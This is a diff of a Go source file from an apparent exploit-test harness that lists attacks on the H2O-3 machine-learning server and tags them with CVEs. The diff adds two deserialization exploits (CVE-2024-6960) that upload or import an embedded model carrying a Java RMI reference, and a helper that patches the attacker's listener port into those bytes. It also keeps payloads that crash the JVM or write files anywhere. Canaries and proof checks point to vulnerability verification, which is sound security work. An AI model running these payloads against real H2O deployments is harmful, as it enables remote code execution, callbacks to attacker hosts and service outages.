@@ -3,7 +3,12 @@ package attack
 import (
 	"archive/zip"
 	"bytes"
+	"compress/gzip"
+	_ "embed"
+	"encoding/binary"
 	"io"
+	"strconv"
+	"strings"
 )
 
 // h2oAttacks are the exploits against H2O-3. The newest release as this was written, 3.46.0.12, still takes nearly all of them.
@@ -266,7 +271,7 @@ var h2oServer = []Attack{
 		Steps: []Step{get("/3/JStack.json")}, Proof: Proof{Answer: "java.lang.Thread"}, ReadOnly: true,
 	},
 	{
-		ID: "h2o/profiler", Doc: "profiles the server for others' work", Works: h2oBoth, Steps: []Step{get("/3/Profiler?depth=5")}, Proof: Proof{Answer: "stacktrace"}, ReadOnly: true,
+		ID: "h2o/profiler", Doc: "profiles the server for others' work", Works: h2oBoth, Steps: []Step{get("/3/Profiler?depth=5")}, Proof: Proof{Answer: "node_name"}, ReadOnly: true,
 	},
 	{
 		ID: "h2o/rebinding", Doc: "asks under the name of a page that was rebound to this address", Works: h2oBoth,
@@ -288,10 +293,6 @@ var h2oServer = []Attack{
 		Proof: Proof{Answer: "${secret}"},
 	},
 	{
-		ID: "h2o/lock-cloud", Doc: "locks the cluster, so that no node can join it", Works: h2oBoth,
-		Steps: []Step{form("/3/CloudLock", "reason=lab")}, Proof: Proof{Probe: &Step{Request: "GET /3/Cloud"}, Shows: `"locked":true`},
-	},
-	{
 		ID: "h2o/run-tool", CVE: []string{"CVE-2024-5979", "CVE-2024-6863"}, Doc: "starts a tool inside the server, which ends the JVM when it does not like its arguments", Works: []string{"3.46.0.4"},
 		Steps: []Step{form("/99/Rapids", `ast=(run_tool%20"MojoConvertTool"%20["/no-such-file"%20"/no-such-folder/x"])`)}, Proof: Proof{Down: true},
 	},
@@ -302,6 +303,22 @@ var h2oServer = []Attack{
 
 // h2oCode run code of the attacker's inside the server.
 var h2oCode = []Attack{
+	{
+		ID: "h2o/upload-model", CVE: []string{"CVE-2024-6960"}, Doc: "uploads a model with a Java object in it, and has it restored", Works: h2oBoth[:1],
+		Steps: []Step{
+			{Request: "POST /3/PostFile.bin?destination_frame=lab-rmi-${nonce}", Make: rmiModelFor},
+			form("/99/Models.upload.bin/lab", "dir=lab-rmi-${nonce}"),
+		},
+		Proof: Proof{Heard: "connection"},
+	},
+	{
+		ID: "h2o/import-model", CVE: []string{"CVE-2024-6960"}, Doc: "imports a model with a Java object in it from where the attacker left it", Works: h2oBoth[:1],
+		Steps: []Step{
+			Step{Request: "POST /3/PostFile.bin?destination_frame=secret-rmi-${nonce}", Make: rmiModelFor}.by(Victim), // one way of many to leave bytes there
+			form("/99/Models.upload.bin/lab", "dir=secret-rmi-${nonce}"),
+		},
+		Proof: Proof{Heard: "connection"},
+	},
 	{
 		ID: "h2o/tool-writes", CVE: []string{"CVE-2024-6863"}, Doc: "starts a tool inside the server that unpacks libraries anywhere", Works: h2oBoth,
 		Steps: []Step{form("/99/Rapids", `ast=(run_tool%20"XGBoostLibExtractTool"%20["${canary-dir}"])`)}, Proof: Proof{File: "${canary-dir}/libxgboost4j_minimal.so"},
@@ -325,6 +342,28 @@ var h2oCode = []Attack{
 				save("job", "job.key.name"), labWait),
 		Proof: Proof{File: "${server-dir}/weir-metric-canary"},
 	},
+}
+
+// rmiModel is a model of H2O 3.46.0.12 in which one field holds a remote reference of Java's instead of a list: restoring it connects to where that
+// points (testdata/make/h2o makes it). The port stands behind the address, in four bytes.
+//
+//go:embed data/h2o-rmi.bin.gz
+var rmiModel []byte
+
+func rmiModelFor(vars map[string]string) []byte {
+	z, err := gzip.NewReader(bytes.NewReader(rmiModel))
+	if err != nil {
+		return nil
+	}
+	b, err := io.ReadAll(io.LimitReader(z, 1<<20))
+	_, port, found := strings.Cut(vars["listener"], ":")
+	n, perr := strconv.Atoi(port)
+	i := bytes.Index(b, []byte("\x00\x09127.0.0.1"))
+	if err != nil || !found || perr != nil || i < 0 {
+		return nil
+	}
+	binary.BigEndian.PutUint32(b[i+11:], uint32(n))
+	return b
 }
 
 // pojo is the source of a class that writes the canary when it is loaded; it is no model, and need not be one.
